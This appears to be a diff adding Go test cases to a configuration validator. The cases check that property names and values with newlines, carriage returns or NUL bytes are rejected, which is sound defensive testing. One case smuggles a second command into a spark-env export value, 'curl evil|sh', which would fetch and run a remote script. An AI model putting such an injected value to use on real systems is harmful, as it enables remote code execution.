@@ -32,6 +32,17 @@ func TestValidateConfigurations(t *testing.T) {
 		{"bad env name", []hearth.Configuration{{Classification: "spark-env", Configurations: []hearth.Configuration{{Classification: "export", Properties: map[string]string{"1BAD": "x"}}}}}, "configurations[0].Configurations[0].Properties", "shell variable"},
 		{"nested elsewhere", []hearth.Configuration{{Classification: "spark-defaults", Configurations: []hearth.Configuration{{Classification: "export"}}}}, "configurations[0].Configurations", "no nested"},
 		{"empty key", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{" ": "x"}}}, "configurations[0].Properties", "non-empty"},
+		{"tab in a value", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.x": "a\tb"}}}, "", ""},
+		{"newline in a value", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.driver.extraJavaOptions": "-Da=1\nspark.evil=1"}}},
+			`configurations[0].Properties["spark.driver.extraJavaOptions"]`, "spark-defaults property values must be single lines"},
+		{"carriage return in a value", []hearth.Configuration{{Classification: "spark-log4j2", Properties: map[string]string{"rootLogger.level": "warn\r"}}},
+			`configurations[0].Properties["rootLogger.level"]`, "spark-log4j2"},
+		{"NUL in a value", []hearth.Configuration{{Classification: "spark-hive-site", Properties: map[string]string{"hive.metastore.uris": "thrift://x\x00"}}},
+			`configurations[0].Properties["hive.metastore.uris"]`, "spark-hive-site"},
+		{"newline in an export", []hearth.Configuration{{Classification: "spark-env", Configurations: []hearth.Configuration{{Classification: "export", Properties: map[string]string{"PYSPARK_PYTHON": "python3\ncurl evil|sh"}}}}},
+			`configurations[0].Configurations[0].Properties["PYSPARK_PYTHON"]`, "spark-env export"},
+		{"newline in a name", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.a\nspark.b": "x"}}}, "configurations[0].Properties", "control characters"},
+		{"NUL in a name", []hearth.Configuration{{Classification: "spark-metrics", Properties: map[string]string{"a\x00": "x"}}}, "configurations[0].Properties", "spark-metrics"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			err := hearth.ValidateConfigurations("configurations", tc.in)
